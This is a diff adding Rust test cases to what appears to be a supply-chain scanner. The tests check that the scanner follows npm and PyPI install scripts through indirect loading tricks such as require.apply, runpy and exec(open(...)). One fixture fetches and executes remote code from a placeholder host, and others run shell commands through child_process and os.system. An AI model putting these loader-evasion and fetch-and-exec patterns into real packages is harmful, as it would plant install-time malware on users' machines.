@@ -214,3 +214,76 @@ fn a_nest_of_fifty_layers_is_read_to_its_end() {
     assert_eq!(sequence.layers.len(), 50, "{:?}", sequence.skipped);
     assert!(sequence.steps.iter().any(|step| step.feature.code() == "P2" && step.phase == Phase::Install));
 }
+
+/// The runs and steps of a package whose install script is the first file.
+fn installed(ecosystem: Ecosystem, files: &[(&str, &str)]) -> (Vec<String>, Vec<(String, Phase)>) {
+    // Files are sorted by their paths.
+    let at = files.iter().filter(|(path, _)| *path < files[0].0).count();
+    let package = package(ecosystem, files, vec![entry(Phase::Install, files[0].0, at)]);
+    let sequence = extract(&package, &Reading::default()).sequence;
+    let unresolved = sequence.runs.iter().filter_map(|run| match &run.target {
+        RunTarget::Unresolved(what) => Some(what.clone()),
+        RunTarget::Text { .. } => None,
+    });
+    let steps = sequence.steps.iter().map(|step| (step.feature.code().to_owned(), step.phase));
+    (unresolved.collect(), steps.collect())
+}
+
+#[rstest]
+#[case::any_name("require('./data.txt')", "data.txt")]
+#[case::no_ending("require('./data')", "data")]
+#[case::style_sheet("import './x.min.css'", "x.min.css")]
+#[case::own_folder("require(__dirname + '/data.js')", "data.js")]
+#[case::joined("const path = require('path'); require(path.join(__dirname, 'data'))", "data.js")]
+#[case::of_the_module("module.require('./data')", "data.js")]
+#[case::called("require.call(module, './data')", "data.js")]
+#[case::applied("require.apply(null, ['./data'])", "data.js")]
+#[case::loaded("require('module')._load('./data.js')", "data.js")]
+fn what_node_loads_is_walked_whatever_its_name(#[case] code: &str, #[case] name: &str) {
+    let files = [("i.js", code), (name, "require('child_process').exec('ls')")];
+    let (unresolved, steps) = installed(Ecosystem::Npm, &files);
+    assert!(steps.contains(&("P2".to_owned(), Phase::Install)), "{steps:?} {unresolved:?}");
+    assert_eq!(unresolved, Vec::<String>::new());
+}
+
+#[rstest]
+#[case::path("import runpy\nrunpy.run_path('data.txt')")]
+#[case::module("import runpy\nrunpy.run_module('data')")]
+#[case::file("execfile('data.txt')")]
+#[case::source("import imp\nimp.load_source('x', 'data.txt')")]
+fn what_python_runs_by_name_is_walked(#[case] code: &str) {
+    let files =
+        [("setup.py", code), ("data.txt", "import os\nos.system('ls')\n"), ("data.py", "import os\nos.system('ls')\n")];
+    let (unresolved, steps) = installed(Ecosystem::Pypi, &files);
+    assert!(steps.contains(&("P2".to_owned(), Phase::Install)), "{steps:?} {unresolved:?}");
+    assert_eq!(unresolved, Vec::<String>::new());
+}
+
+#[rstest]
+#[case::read(Ecosystem::Pypi, "exec(open('data.bin').read())", "code that is read from a file when it runs")]
+#[case::compiled(
+    Ecosystem::Pypi,
+    "exec(compile(open('data.bin').read(), 'x', 'exec'))",
+    "code that is read from a file when it runs"
+)]
+#[case::fetched(
+    Ecosystem::Pypi,
+    "import urllib.request\nexec(urllib.request.urlopen('https://a.example.com').read())",
+    "code that is fetched"
+)]
+#[case::text(
+    Ecosystem::Npm,
+    "require('./prose.txt')",
+    "prose.txt does not read as code: syntax errors: the parser skipped or guessed some parts"
+)]
+#[case::native(Ecosystem::Npm, "require('./a.node')", "a.node is native or compiled code, which is not read")]
+fn code_that_cannot_be_read_is_said(#[case] ecosystem: Ecosystem, #[case] code: &str, #[case] expected: &str) {
+    let name = if ecosystem == Ecosystem::Npm { "i.js" } else { "setup.py" };
+    let files = [
+        (name, code),
+        ("prose.txt", "It is a text, of course: no code at all."),
+        ("a.node", "native"),
+        ("data.bin", "x"),
+    ];
+    assert_eq!(installed(ecosystem, &files).0, [expected]);
+}
